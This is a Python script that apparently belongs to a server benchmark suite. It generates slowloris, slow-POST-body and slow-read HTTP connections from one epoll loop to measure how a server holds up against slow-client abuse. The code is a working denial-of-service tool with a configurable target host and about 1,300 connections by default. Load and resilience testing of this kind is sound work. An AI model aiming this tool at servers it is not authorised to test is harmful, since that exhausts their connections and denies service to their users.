#!/usr/bin/python3
"""Quiet slow-client generator for bench/abuse/run.sh (ATTACKER=quiet).

Holds the same three attacks as run.sh's slowhttptest lines, from one process that sleeps in
epoll between trickles instead of busy-polling (slowhttptest -B and -X make ~5,500 poll() calls
a second each, which on the 2-core bench VM slowed the measured traffic even when they attacked a
decoy):
  slowloris  a request line and headers without the final blank line, then one more header line
             every --interval seconds;
  slow body  POST with Content-Length: --content-length and a complete head, then --body-bytes
             bytes of body every --interval seconds;
  slow read  SO_RCVBUF set to --rcvbuf-min..--rcvbuf-max before connect, --pipeline pipelined
             GETs, then --read-bytes bytes read every --read-interval seconds.
Connections open at each kind's rate. Nothing is reconnected: a connection the server closes (or
resets) is counted as closed, and the counts go to stderr at exit (a slow reader sees the close
only at its next read, once it has read what the server sent before it). stdout gets a line with the
connections held whenever the count changes (at most once a --report-every seconds) and at exit.
Stops after --hold seconds, or on SIGTERM / SIGINT, closing every socket. Standard library only.
"""

import argparse
import errno
import heapq
import random
import resource
import selectors
import signal
import socket
import sys
import time

# Timers due within this much of each other are served by one wakeup: connections opened a few
# ms apart would otherwise each cost a wakeup every interval.
TIMER_SLACK_S = 0.05
# Connections are opened in batches this often during the ramp (rate x this per batch).
RAMP_TICK_S = 0.05
KINDS = ("slowloris", "slowbody", "slowread")


class Conn:
    """One attack connection; lives in Generator.conns until the server closes it or we stop."""

    __slots__ = ("kind", "sock", "out", "connected", "closed", "wants_write")

    def __init__(self, kind, sock):
        self.kind = kind
        self.sock = sock
        self.out = bytearray()  # bytes not yet accepted by the kernel
        self.connected = False
        self.closed = False
        self.wants_write = False


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--slowloris", type=int, default=1000, help="connections [1000]")
    p.add_argument("--slowloris-rate", type=float, default=250, help="opened per second [250]")
    p.add_argument("--slowbody", type=int, default=200, help="connections [200]")
    p.add_argument("--slowbody-rate", type=float, default=100, help="opened per second [100]")
    p.add_argument("--slowread", type=int, default=100, help="connections [100]")
    p.add_argument("--slowread-rate", type=float, default=50, help="opened per second [50]")
    p.add_argument("--interval", type=float, default=10, help="s between header lines / body bytes [10]")
    p.add_argument("--body-bytes", type=int, default=10, help="body bytes per slow-body trickle [10]")
    p.add_argument("--content-length", type=int, default=10_000_000, help="slow-body Content-Length")
    p.add_argument("--read-interval", type=float, default=3, help="s between slow reads [3]")
    p.add_argument("--read-bytes", type=int, default=32, help="bytes per slow read [32]")
    p.add_argument("--rcvbuf-min", type=int, default=512, help="slow-read SO_RCVBUF, lowest [512]")
    p.add_argument("--rcvbuf-max", type=int, default=1024, help="slow-read SO_RCVBUF, highest [1024]")
    p.add_argument("--pipeline", type=int, default=3, help="pipelined GETs per slow read [3]")
    p.add_argument("--loris-path", default="/small")
    p.add_argument("--body-path", default="/upload")
    p.add_argument("--read-path", default="/big")
    p.add_argument("--hold", type=float, default=60, help="seconds until all are closed and we exit [60]")
    p.add_argument("--report-every", type=float, default=1, help="s between held-count lines [1]")
    return p.parse_args(argv)


def raise_nofile_limit():
    # 1,300 sockets are over the usual soft limit of 1024; the hard limit is normally higher.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class Generator:
    def __init__(self, args):
        self.args = args
        self.sel = selectors.DefaultSelector()  # epoll: cost per event, not per socket held
        self.timers = []  # heap of (due, seq, conn, action)
        self.seq = 0
        self.conns = set()
        self.opened = dict.fromkeys(KINDS, 0)
        self.closed = dict.fromkeys(KINDS, 0)  # by the server (EOF or reset)
        self.failed = dict.fromkeys(KINDS, 0)  # connect refused or errored
        self.held = dict.fromkeys(KINDS, 0)  # connected and not closed
        self.stopping = False
        self.last_report = None
        self.report_at = 0.0
        host = f"{args.host}:{args.port}"
        agent = "User-Agent: baton-slow-clients\r\nAccept: */*\r\n"
        self.first_bytes = {
            "slowloris": f"GET {args.loris_path} HTTP/1.1\r\nHost: {host}\r\n{agent}".encode(),
            "slowbody": (
                f"POST {args.body_path} HTTP/1.1\r\nHost: {host}\r\n{agent}"
                f"Content-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {args.content_length}\r\n\r\n"
            ).encode(),
            "slowread": f"GET {args.read_path} HTTP/1.1\r\nHost: {host}\r\n{agent}\r\n".encode() * args.pipeline,
        }
        self.trickle = {"slowloris": b"X-a: b\r\n", "slowbody": b"x" * args.body_bytes}
        self.wanted = {k: getattr(args, k) for k in KINDS}
        self.rates = {k: getattr(args, f"{k}_rate") for k in KINDS}

    # ------------------------------------------------------------------ timers

    def at(self, due, conn, action):
        self.seq += 1
        heapq.heappush(self.timers, (due, self.seq, conn, action))

    def run_due_timers(self, now):
        while self.timers and self.timers[0][0] <= now + TIMER_SLACK_S:
            _, _, conn, action = heapq.heappop(self.timers)
            if conn is None or not conn.closed:
                action(conn)

    # ------------------------------------------------------------------ opening

    def ramp(self, start):
        """Opens what each kind's rate allows by now; re-arms itself until all are opened."""
        elapsed = time.monotonic() - start
        for kind in KINDS:
            due = min(self.wanted[kind], int(self.rates[kind] * elapsed) + 1)
            while self.opened[kind] < due:
                self.open(kind)
        if any(self.opened[k] < self.wanted[k] for k in KINDS):
            self.at(time.monotonic() + RAMP_TICK_S, None, lambda _: self.ramp(start))

    def open(self, kind):
        self.opened[kind] += 1
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if kind == "slowread":
            # Before connect, so the small window is what the handshake advertises.
            size = random.randint(self.args.rcvbuf_min, self.args.rcvbuf_max)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, size)
        sock.setblocking(False)
        conn = Conn(kind, sock)
        err = sock.connect_ex((self.args.host, self.args.port))
        if err not in (0, errno.EINPROGRESS):
            self.failed[kind] += 1
            sock.close()
            return
        self.conns.add(conn)
        # Writable once the connection is established (or failed).
        self.sel.register(sock, selectors.EVENT_WRITE, conn)

    def on_connected(self, conn):
        err = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            self.failed[conn.kind] += 1
            self.drop(conn, counted=False)
            return
        conn.connected = True
        self.held[conn.kind] += 1
        conn.out += self.first_bytes[conn.kind]
        self.flush(conn)
        if conn.closed:
            return
        now = time.monotonic()
        if conn.kind == "slowread":
            self.at(now + self.args.read_interval, conn, self.slow_read)
        else:
            self.at(now + self.args.interval, conn, self.send_trickle)

    # ------------------------------------------------------------------ trickles

    def send_trickle(self, conn):
        conn.out += self.trickle[conn.kind]
        self.flush(conn)
        if not conn.closed:
            self.at(time.monotonic() + self.args.interval, conn, self.send_trickle)

    def slow_read(self, conn):
        # Slow readers are not in the selector for reading (their socket is always readable):
        # a close is seen here, at the next read.
        try:
            data = conn.sock.recv(self.args.read_bytes)
        except BlockingIOError:
            data = None
        except OSError:
            data = b""
        if data == b"":
            self.drop(conn, counted=True)
            return
        self.at(time.monotonic() + self.args.read_interval, conn, self.slow_read)

    def flush(self, conn):
        try:
            sent = conn.sock.send(conn.out) if conn.out else 0
        except BlockingIOError:
            sent = 0
        except OSError:
            self.drop(conn, counted=True)
            return
        del conn.out[:sent]
        self.watch(conn, write=bool(conn.out))

    def watch(self, conn, write):
        """Slowloris and slow-body sockets are watched for reading (a reply or a close); every
        socket for writing while it has bytes the kernel did not take."""
        events = selectors.EVENT_WRITE if write else 0
        if conn.kind != "slowread":
            events |= selectors.EVENT_READ
        registered = conn.sock.fileno() in self.sel.get_map()
        if events == 0:
            if registered:
                self.sel.unregister(conn.sock)
        elif registered:
            self.sel.modify(conn.sock, events, conn)
        else:
            self.sel.register(conn.sock, events, conn)

    def on_readable(self, conn):
        try:
            data = conn.sock.recv(4096)  # a reply (408, 400...) is read and dropped
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data == b"":
            self.drop(conn, counted=True)

    def drop(self, conn, counted):
        if conn.closed:
            return
        conn.closed = True
        if counted:
            self.closed[conn.kind] += 1
        if conn.connected:
            self.held[conn.kind] -= 1
        if conn.sock.fileno() in self.sel.get_map():
            self.sel.unregister(conn.sock)
        conn.sock.close()
        self.conns.discard(conn)

    # ------------------------------------------------------------------ loop

    def report(self, now, force=False):
        counts = dict(self.held)
        if not force and (counts == self.last_report or now - self.report_at < self.args.report_every):
            return
        self.last_report, self.report_at = counts, now
        line = " ".join(f"{k}={v}" for k, v in counts.items())
        print(f"held {line} total={sum(counts.values())}", flush=True)

    def dispatch(self, events):
        for key, mask in events:
            if key.data is None:  # the signal wake-up pipe
                key.fileobj.recv(64)
                continue
            conn = key.data
            if conn.closed:
                continue
            if not conn.connected:
                self.on_connected(conn)
            elif mask & selectors.EVENT_READ:
                self.on_readable(conn)
            if not conn.closed and conn.connected and mask & selectors.EVENT_WRITE and conn.out:
                self.flush(conn)

    def run(self):
        wake_r, wake_w = socket.socketpair()
        wake_r.setblocking(False)
        wake_w.setblocking(False)
        signal.set_wakeup_fd(wake_w.fileno())  # a signal wakes select() at once
        self.sel.register(wake_r, selectors.EVENT_READ, None)
        for sig in (signal.SIGTERM, signal.SIGINT):
            signal.signal(sig, lambda *_: setattr(self, "stopping", True))

        start = time.monotonic()
        end = start + self.args.hold
        self.report_at = start
        self.ramp(start)
        while not self.stopping:
            now = time.monotonic()
            if now >= end:
                break
            self.run_due_timers(now)
            self.report(now)
            next_due = min(self.timers[0][0] if self.timers else end, end)
            if self.last_report != self.held:
                next_due = min(next_due, self.report_at + self.args.report_every)
            self.dispatch(self.sel.select(max(0.0, next_due - time.monotonic())))
        self.stop()

    def stop(self):
        self.report(time.monotonic(), force=True)
        for conn in list(self.conns):
            self.drop(conn, counted=False)
        closed = " ".join(f"{k}={v}" for k, v in self.closed.items())
        failed = " ".join(f"{k}={v}" for k, v in self.failed.items())
        print(f"slow_clients: closed by the server: {closed}; failed to connect: {failed}", file=sys.stderr)


def main(argv):
    args = parse_args(argv)
    raise_nofile_limit()
    Generator(args).run()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
